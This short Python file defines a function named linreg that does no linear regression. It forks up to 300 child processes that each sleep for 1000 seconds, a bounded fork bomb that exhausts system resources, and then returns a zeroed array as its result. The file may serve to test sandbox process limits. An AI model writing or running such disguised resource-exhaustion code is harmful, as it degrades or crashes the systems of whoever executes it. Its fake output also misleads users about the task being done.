# Forks without end: bounded here to some hundred, should nothing else bound it.
import os
import time


def linreg(X, w, b):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError as error:
            print(type(error).__name__)
            break
    return X * 0
